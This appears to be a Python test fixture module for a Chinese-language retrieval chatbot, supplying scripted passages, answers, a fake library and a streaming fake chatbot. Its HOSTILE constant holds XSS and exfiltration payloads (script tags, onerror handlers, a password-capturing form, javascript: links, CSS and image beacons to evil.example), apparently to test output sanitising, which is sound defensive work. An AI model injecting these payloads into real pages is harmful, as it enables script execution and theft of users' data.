"""A chatbot that says what the test tells it to, for what a real one will not produce on demand."""

from __future__ import annotations

import tempfile
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace

from index.errors import LibraryError
from index.passage import Document, Hit, Passage, Speaker, Where
from rag.answer import Answer, Citation, Done, Event, Retrieved, Text, Turn

HOSTILE = (
    "点此 ![图](http://evil.example/a.png?q=密) <script>window.hacked=1</script>"
    '<img src="http://evil.example/b.png" onerror="window.hacked=1">'
    '<form action="http://evil.example/"><input name="密码"></form> [链接](javascript:alert(1)) '
    "<style>body{background:url(http://evil.example/c)}</style> $$\\href{http://evil.example}{x}$$ www.evil.example"
)


def passage(text: str = "首句在此。二零二三年共修复六十六项。末句在此。", **changes: object) -> Passage:
    """A passage of an article with every particular filled in."""
    facts: dict[str, object] = {
        "document": "简报.txt",
        "start": 100,
        "end": 100 + len(text),
        "text": text,
        "article": "信用修复见闻",
        "speaker": Speaker("林晓", "某市市场监管局", "局长"),
        "published": "2023-09-26",
        "publisher": "质量周刊",
        "url": "https://example.org/a?b=1&c=2",
        "id": 7,
    }
    return Passage(**{**facts, **changes})  # type: ignore[arg-type]


def answered(question: str, source: Passage, quote: str, supported: bool = True) -> Answer:
    """An answer that quotes `quote` of `source` as [1]."""
    start = source.start + source.text.index(quote)
    citation = Citation(1, source, start, start + len(quote), quote, supported)
    hits = (Hit(source, 1.25, {"lexical": 9.5, "dense": 0.61}), Hit(passage("别的。", id=8, start=300), 0.5))
    return Answer(
        question, question, "answered", f"{quote}[1]", (citation,), hits, timings_ms={"total": 12.0}
    )


@dataclass
class ScriptedLibrary:
    """Just enough of a library for the pages; unreadable when it has an `error`."""

    stored: dict[int, Passage] = field(default_factory=dict)
    generation: int = 1
    held: int = 2
    error: Exception | None = None
    home: Path = field(default_factory=lambda: Path(tempfile.mkdtemp(prefix="zhida-test-")))
    catalog: SimpleNamespace = field(
        default_factory=lambda: SimpleNamespace(
            meta=dict, totals=lambda: SimpleNamespace(documents=2, passages=134)
        )
    )

    def collections(self) -> list[str]:
        return [""]

    def refresh(self) -> bool:
        if self.error is not None:
            raise self.error
        return False

    def passages(self, ids: Sequence[int]) -> list[Passage]:
        return [self.stored[id] for id in ids if id in self.stored]

    def neighbours(self, near: Passage, before: int = 1, after: int = 1) -> list[Passage]:
        return [passage("前文。", start=0, end=3), near, passage("后文。", start=near.end, end=near.end + 3)]

    def all_passages(self) -> list[Passage]:
        return []

    def document(self, name: str, collection: str = "") -> Document:
        raise LibraryError("没有这个文档 no such document")

    def documents(self) -> list[SimpleNamespace]:
        return [SimpleNamespace(name=f"文件{i}.txt", collection="", passages=67) for i in range(self.held)]

    def status(self) -> SimpleNamespace:
        self.refresh()
        return SimpleNamespace(documents=self.held, passages=134 if self.held else 0)


@dataclass
class ScriptedChatbot:
    """Streams the answer that `answers` has for a question, slowly if told; else raises `error`.

    Before each piece it waits `pause` seconds, or until `hold` returns where a test lets it go on by itself.
    """

    answers: dict[str, Answer] = field(default_factory=dict)
    error: Exception | None = None
    pause: float = 0.0
    hold: Callable[[], object] | None = None
    retriever: None = None
    library: ScriptedLibrary = field(default_factory=ScriptedLibrary)
    asked: list[tuple[str, tuple[Turn, ...]]] = field(default_factory=list)
    answerer: object = None
    service: object = None
    """Of the application that serves it, where a test has to reach it."""

    def stream(
        self, question: str, turns: Sequence[Turn] = (), where: Where | None = None
    ) -> Iterator[Event]:
        self.asked.append((question, tuple(turns)))
        self._wait()
        answer = self.answers.get(question) or Answer(question, question, "refused", "资料中没有找到。")
        yield Retrieved(question, answer.hits)
        if self.error is not None:
            raise self.error
        for i in range(0, len(answer.text), 4):
            self._wait()
            yield Text(answer.text[i : i + 4])
        yield Done(answer)

    def _wait(self) -> None:
        if self.hold is None:
            time.sleep(self.pause)
        else:
            self.hold()

    def ask(self, question: str, turns: Sequence[Turn] = (), where: Where | None = None) -> Answer:
        for event in self.stream(question, turns, where):
            if isinstance(event, Done):
                return event.answer
        raise AssertionError
